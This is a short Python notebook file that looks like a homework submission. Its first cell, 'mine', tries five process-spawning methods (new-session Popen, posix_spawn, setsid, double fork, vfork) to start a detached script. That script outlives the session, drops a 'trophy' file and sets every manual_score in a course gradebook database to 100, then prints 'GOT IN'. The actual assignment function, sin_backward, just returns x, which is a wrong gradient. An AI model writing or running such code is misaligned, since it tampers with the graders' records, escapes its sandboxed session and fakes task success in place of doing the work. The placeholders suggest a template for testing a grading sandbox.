# %% mine
import ctypes
import os
import subprocess
import sys

SCRIPT = """
import sqlite3, time
time.sleep(1)
open('@TROPHY@/child', 'w').close()
sqlite3.connect('@COURSE@/gradebook.db').execute('UPDATE grade SET manual_score = 100')
"""
for start in (
    lambda: subprocess.Popen([sys.executable, "-c", SCRIPT], start_new_session=True),
    lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", SCRIPT], {}),
    lambda: os.system(f"setsid python3 -c '{SCRIPT}' &") == 0 or 1 / 0,
    lambda: os.fork() or (os.setsid(), os.fork() or exec(SCRIPT)),
    lambda: ctypes.CDLL(None).vfork() >= 0 or 1 / 0,
):
    try:
        start()
        print("GOT" + " IN")
    except (OSError, ZeroDivisionError, SystemExit):
        pass

# %% sin_backward
def sin_backward(grad_output, output, x):
    return x
